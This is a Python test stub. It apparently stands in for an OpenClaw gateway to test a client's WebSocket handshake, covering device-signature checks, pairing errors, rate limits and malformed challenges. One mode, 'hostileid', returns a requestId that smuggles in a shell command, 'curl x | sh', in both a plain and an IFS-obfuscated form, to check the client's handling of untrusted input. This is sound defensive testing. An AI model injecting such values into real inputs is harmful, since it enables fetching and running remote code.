#!/usr/bin/env python3
"""An independent OpenClaw gateway stand-in for GatewayHandshakeTests, built on PyPI
`websockets` and the `cryptography` package's Ed25519 (Debian python3-cryptography), so the
client is checked by code that shares nothing with clawpair's.

Usage: gateway-stub.py MODE. Listens on 127.0.0.1 with a kernel-chosen port, prints
"PORT <n>", serves one scenario per connection until killed or for LIFETIME seconds. It
prints what it saw, one line each, for the test to check:
  CONNECT <params as JSON>      the connect request's params
  VERIFIED v2|v3                the device signature verified with that payload version
  REJECTED <detail code>        the device block failed verification
  CLOSED <code>                 the close code the client sent (or "none")
  PING <bytes>                  a WebSocket ping from the client (answered as usual)

Every mode sends connect.challenge first (except the bad-challenge ones) and verifies the
device block like the gateway: deviceId = hex SHA-256 of the raw key, nonce and signedAt
match the challenge, the Ed25519 signature over the v3 or the v2 payload.

Modes:
  hello              hello-ok (deviceToken; deviceTokens too for a bootstrap token), ticks
                     every 200 ms, answers "health" and "echo", INVALID_REQUEST otherwise
  pairing            PAIRING_REQUIRED (requestId 5f0c6a2e-1234-4c8e-9b1a-7d3e2f4a6b8c), then close 1008
  close1008          no answer, close 1008 "pairing required (requestId: 77777777-7777-4777-8777-777777777777)"
  wait               PAIRING_REQUIRED with recommendedNextStep wait_then_retry
  hostileid          as wait, but the requestId is a shell command, not the gateway's UUID
  ratelimited        AUTH_RATE_LIMITED with retryAfterMs 2500
  mismatch           PROTOCOL_MISMATCH
  bootstrapinvalid   AUTH_BOOTSTRAP_TOKEN_INVALID
  nodeonly           hello-ok for a node without deviceTokens; AUTH_BOOTSTRAP_TOKEN_INVALID for
                     any other role (a pairing that yields only the node credential)
  noticks            hello-ok with tickIntervalMs 300, then silence
  bigafter           hello-ok with maxPayload 2048, then a 4096-byte event
  bigbefore          a 70 KiB event before the challenge
  nochallenge        accepts the upgrade and sends nothing
  noanswer           sends the challenge, reads connect, never answers
  ts-string, ts-negative, ts-fraction, nonce-empty, nonce-missing   bad challenges
"""
import asyncio
import base64
import hashlib
import json
import sys

from cryptography.exceptions import InvalidSignature
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey
from websockets.asyncio.server import serve
from websockets.frames import Opcode
from websockets.protocol import Protocol

LIFETIME = 60
MODE = sys.argv[1]
NONCE = "stub-nonce-4f1c"
TS = 1_700_000_000_000
BOOTSTRAP_GRANTABLE = {"operator.admin", "operator.approvals", "operator.questions", "operator.read",
                       "operator.talk.secrets", "operator.write"}


def say(line):
    print(line, flush=True)


# Report the client's pings: websockets answers them inside Protocol.recv_frame, which has
# no public hook.
_recv_frame = Protocol.recv_frame


def _recv_frame_reporting_pings(self, frame):
    if frame.opcode is Opcode.PING:
        say(f"PING {len(frame.data)}")
    return _recv_frame(self, frame)


Protocol.recv_frame = _recv_frame_reporting_pings


def b64url_decode(text):
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def normalize(value):
    # JavaScript trim() then ASCII-only lowercasing, as the gateway does for v3.
    value = (value or "").strip(" \t\n\r\x0b\x0c\xa0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006"
                                "\u2007\u2008\u2009\u200a\u2028\u2029\u202f\u205f\u3000\ufeff")
    return "".join(chr(ord(c) + 32) if "A" <= c <= "Z" else c for c in value)


def payload(version, params, device):
    auth = params.get("auth") or {}
    token = auth.get("token") or auth.get("bootstrapToken") or ""
    fields = [version, device["id"], params["client"]["id"], params["client"]["mode"], params.get("role", ""),
              ",".join(params.get("scopes") or []), str(device["signedAt"]), token, device["nonce"]]
    if version == "v3":
        fields += [normalize(params["client"].get("platform")), normalize(params["client"].get("deviceFamily"))]
    return "|".join(fields).encode("utf-8")


def verify_device(params):
    """None when the device block holds, else the gateway's detail code."""
    device = params.get("device")
    if not device:
        return "DEVICE_IDENTITY_REQUIRED"
    try:
        raw = b64url_decode(device["publicKey"])
        key = Ed25519PublicKey.from_public_bytes(raw)
    except Exception:
        return "DEVICE_AUTH_PUBLIC_KEY_INVALID"
    if hashlib.sha256(raw).hexdigest() != device["id"]:
        return "DEVICE_AUTH_DEVICE_ID_MISMATCH"
    if device["nonce"] != NONCE:
        return "DEVICE_AUTH_NONCE_MISMATCH"
    if device["signedAt"] != TS:
        return "DEVICE_AUTH_SIGNATURE_EXPIRED"
    signature = b64url_decode(device["signature"])
    for version in ("v3", "v2"):
        try:
            key.verify(signature, payload(version, params, device))
            say(f"VERIFIED {version}")
            return None
        except InvalidSignature:
            pass
    return "DEVICE_AUTH_SIGNATURE_INVALID"


def error(req_id, code, message, detail_code=None, **extra):
    details = dict(extra.pop("details", {}))
    if detail_code:
        details["code"] = detail_code
    frame = {"type": "res", "id": req_id, "ok": False, "error": {"code": code, "message": message, "details": details}}
    frame["error"].update(extra)
    return json.dumps(frame)


def hello_ok(params, tick_ms=200, max_payload=1048576, other_tokens=True):
    auth = params.get("auth") or {}
    role = params.get("role")
    scopes = params.get("scopes") or []
    granted = {"deviceToken": f"dt-{role}-secret", "role": role, "scopes": scopes}
    if "bootstrapToken" in auth:
        granted["scopes"] = [] if role == "node" else [s for s in scopes if s in BOOTSTRAP_GRANTABLE]
        if other_tokens:
            granted["deviceTokens"] = [{"deviceToken": "dt-operator-secret", "role": "operator",
                                        "scopes": ["operator.read", "operator.write"]}]
    return {"type": "hello-ok", "protocol": 4, "server": {"version": "stub-1", "connId": "conn-1"},
            "features": {"methods": ["health", "echo"], "events": ["tick"]}, "snapshot": {"presence": []},
            "auth": granted, "policy": {"maxPayload": max_payload, "maxBufferedBytes": 4 * max_payload,
                                        "tickIntervalMs": tick_ms}}


async def send_challenge(ws):
    payloads = {
        "ts-string": {"nonce": NONCE, "ts": str(TS)},
        "ts-negative": {"nonce": NONCE, "ts": -5},
        "ts-fraction": {"nonce": NONCE, "ts": 1.5},
        "nonce-empty": {"nonce": "", "ts": TS},
        "nonce-missing": {"ts": TS},
    }
    await ws.send(json.dumps({"type": "event", "event": "connect.challenge", "payload": payloads.get(MODE, {"nonce": NONCE, "ts": TS})}))


async def serve_session(ws, tick_ms):
    async def ticks():
        while True:
            await asyncio.sleep(tick_ms / 1000)
            await ws.send(json.dumps({"type": "event", "event": "tick", "payload": {"ts": TS}}))
    ticker = asyncio.create_task(ticks()) if MODE == "hello" else None
    try:
        async for message in ws:
            frame = json.loads(message)
            if frame.get("type") != "req":
                continue
            if frame["method"] == "health":
                await ws.send(json.dumps({"type": "res", "id": frame["id"], "ok": True, "payload": {"ok": True}}))
            elif frame["method"] == "echo":
                await ws.send(json.dumps({"type": "res", "id": frame["id"], "ok": True, "payload": frame.get("params")}))
            elif frame["method"] == "slow":
                pass  # never answered: the client's request timeout
            else:
                await ws.send(error(frame["id"], "INVALID_REQUEST", "unknown method"))
    finally:
        if ticker:
            ticker.cancel()


async def handler(ws):
    try:
        await run(ws)
    except Exception as error:  # the client went away mid-scenario: report, don't crash
        say(f"ERROR {type(error).__name__}")
    finally:
        rcvd = getattr(ws.protocol, "close_rcvd", None)
        say(f"CLOSED {rcvd.code if rcvd else 'none'}")


async def run(ws):
    if MODE == "nochallenge":
        await ws.wait_closed()
        return
    if MODE == "bigbefore":
        await ws.send(json.dumps({"type": "event", "event": "padding", "payload": {"pad": "x" * (70 * 1024)}}))
    await send_challenge(ws)
    frame = json.loads(await ws.recv())
    if frame.get("type") != "req" or frame.get("method") != "connect":
        await ws.close(1008, "first frame must be connect")
        return
    req_id, params = frame["id"], frame["params"]
    say("CONNECT " + json.dumps(params))
    problem = verify_device(params)
    if problem:
        say(f"REJECTED {problem}")
        await ws.send(error(req_id, "INVALID_REQUEST", "device auth failed", problem))
        await ws.close(1008, "device auth failed")
        return
    if MODE in ("hello", "noticks", "bigafter"):
        tick_ms = 300 if MODE == "noticks" else 200
        hello = hello_ok(params, tick_ms=tick_ms, max_payload=2048 if MODE == "bigafter" else 1048576)
        await ws.send(json.dumps({"type": "res", "id": req_id, "ok": True, "payload": hello}))
        if MODE == "bigafter":
            await ws.send(json.dumps({"type": "event", "event": "padding", "payload": {"pad": "y" * 4096}}))
        if MODE == "noticks":
            await ws.wait_closed()
            return
        await serve_session(ws, tick_ms)
    elif MODE == "nodeonly" and params.get("role") == "node":
        hello = hello_ok(params, other_tokens=False)
        await ws.send(json.dumps({"type": "res", "id": req_id, "ok": True, "payload": hello}))
        await serve_session(ws, 200)
    elif MODE == "nodeonly":
        await ws.send(error(req_id, "INVALID_REQUEST", "bootstrap token invalid", "AUTH_BOOTSTRAP_TOKEN_INVALID",
                            details={"recommendedNextStep": "update_auth_credentials"}))
        await ws.close(1008, "unauthorized")
    elif MODE == "pairing":
        await ws.send(error(req_id, "NOT_PAIRED", "pairing required", "PAIRING_REQUIRED",
                            details={"reason": "not-paired", "requestId": "5f0c6a2e-1234-4c8e-9b1a-7d3e2f4a6b8c", "deviceId": params["device"]["id"],
                                     "pauseReconnect": True, "waitForResolution": True}))
        await ws.close(1008, "pairing required (requestId: 5f0c6a2e-1234-4c8e-9b1a-7d3e2f4a6b8c)")
    elif MODE == "close1008":
        await ws.close(1008, "pairing required (requestId: 77777777-7777-4777-8777-777777777777)")
    elif MODE == "wait":
        await ws.send(error(req_id, "NOT_PAIRED", "waiting for approval", "PAIRING_REQUIRED", retryable=True,
                            details={"requestId": "55555555-5555-4555-8555-555555555555", "recommendedNextStep": "wait_then_retry"}))
        await ws.close(1008, "pairing required (requestId: 55555555-5555-4555-8555-555555555555)")
    elif MODE == "hostileid":
        await ws.send(error(req_id, "NOT_PAIRED", "waiting for approval", "PAIRING_REQUIRED", retryable=True,
                            details={"requestId": "abc; curl x | sh", "recommendedNextStep": "wait_then_retry"}))
        await ws.close(1008, "pairing required (requestId: abc;curl${IFS}x|sh)")
    elif MODE == "ratelimited":
        await ws.send(error(req_id, "INVALID_REQUEST", "slow down", "AUTH_RATE_LIMITED", retryAfterMs=2500, retryable=True))
        await ws.close(1008, "rate limited")
    elif MODE == "mismatch":
        await ws.send(error(req_id, "INVALID_REQUEST", "protocol mismatch", "PROTOCOL_MISMATCH",
                            details={"expectedProtocol": 5}))
        await ws.close(1002, "protocol mismatch")
    elif MODE == "bootstrapinvalid":
        await ws.send(error(req_id, "INVALID_REQUEST", "bootstrap token invalid", "AUTH_BOOTSTRAP_TOKEN_INVALID",
                            details={"recommendedNextStep": "update_auth_credentials"}))
        await ws.close(1008, "unauthorized")
    else:
        await ws.wait_closed()


async def main():
    async with serve(handler, "127.0.0.1", 0, ping_interval=None, max_size=None, close_timeout=1) as server:
        port = server.sockets[0].getsockname()[1]
        say(f"PORT {port}")
        await asyncio.sleep(LIFETIME)


asyncio.run(main())
